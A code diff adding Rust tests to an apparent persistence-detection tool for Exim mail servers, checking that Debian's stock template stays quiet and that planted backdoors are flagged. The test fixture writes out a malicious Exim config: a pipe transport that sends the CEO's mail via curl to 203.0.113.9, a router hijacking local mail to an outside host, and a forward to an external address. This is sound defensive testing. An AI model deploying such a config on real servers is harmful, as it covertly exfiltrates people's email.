@@ -522,6 +522,72 @@ mod exim_config_tests {
     }
 }
 
+/// Exim's further idioms: `file` redirects, pipe and smtp transports, routes by name, and
+/// Debian's stock template (exim4-config 4.96) staying quiet.
+#[cfg(test)]
+mod exim_idiom_tests {
+    use super::config_rules;
+    use super::config_tests::host;
+
+    const TEMPLATE: &str =
+        include_str!("../../../tests/fixtures/exim-live/etc/exim4/exim4.conf.template");
+
+    fn found(extra: &[(&str, &str)]) -> Vec<(&'static str, String)> {
+        let mut files = vec![
+            ("/etc/mailname", "mx.lab.example\n"),
+            (
+                "/etc/exim4/update-exim4.conf.conf",
+                "dc_eximconfig_configtype='internet'\ndc_other_hostnames='lab.example'\ndc_use_split_config='false'\n",
+            ),
+            ("/etc/exim4/exim4.conf.template", TEMPLATE),
+        ];
+        files.extend_from_slice(extra);
+        let h = host(&files);
+        config_rules()
+            .iter()
+            .flat_map(|r| r.check(&h))
+            .filter(|f| !f.rule.starts_with("config.vrfy") && !f.rule.starts_with("config.banner"))
+            .map(|f| (f.rule, f.title.clone()))
+            .collect()
+    }
+
+    #[test]
+    fn debian_stock_template_is_quiet() {
+        let got = found(&[]);
+        assert!(got.is_empty(), "{got:#?}");
+    }
+
+    #[test]
+    fn planted_routers_and_transports() {
+        let planted = "primary_hostname = mx.lab.example\ndomainlist local_domains = lab.example\nbegin routers\nforwards:\n  driver = redirect\n  domains = +local_domains\n  file = /etc/exim4/forwards/${local_part}\n  no_verify\ncopy_ceo:\n  driver = accept\n  local_parts = ceo\n  transport = backdoor_pipe\n  unseen\nhijack:\n  driver = manualroute\n  domains = +local_domains\n  route_list = * mx.collect.example byname\n  transport = remote_smtp\nbegin transports\nbackdoor_pipe:\n  driver = pipe\n  command = /usr/bin/curl -s --data-binary @- http://203.0.113.9/in\nremote_smtp:\n  driver = smtp\n  hosts = 203.0.113.25\n  hosts_override\nprocmail_pipe:\n  driver = pipe\n  command = \"/usr/bin/procmail\"\n";
+        let got = found(&[
+            ("/etc/exim.conf", planted),
+            ("/etc/exim4/forwards/ceo", "ceo@collect.example\n"),
+            ("/etc/exim4/forwards/bob", "bob\n"),
+        ]);
+        let want = [
+            (
+                "persistence.forward",
+                "Exim router forwards forwards mail of ceo to ceo@collect.example",
+            ),
+            (
+                "persistence.pipe",
+                "Mail of ceo (router copy_ceo) is piped to curl",
+            ),
+            (
+                "persistence.transport",
+                "Exim router hijack sends local mail to mx.collect.example",
+            ),
+            (
+                "persistence.transport",
+                "Exim transport remote_smtp sends mail to 203.0.113.25",
+            ),
+        ];
+        let want: Vec<(&str, String)> = want.iter().map(|(r, t)| (*r, t.to_string())).collect();
+        assert_eq!(got, want);
+    }
+}
+
 /// Sendmail as Debian installs it, and with persistence planted in its idiom
 /// (`tests/fixtures/sendmail-stock`, `tests/fixtures/sendmail-planted`: `.cf` files m4 made).
 #[cfg(test)]
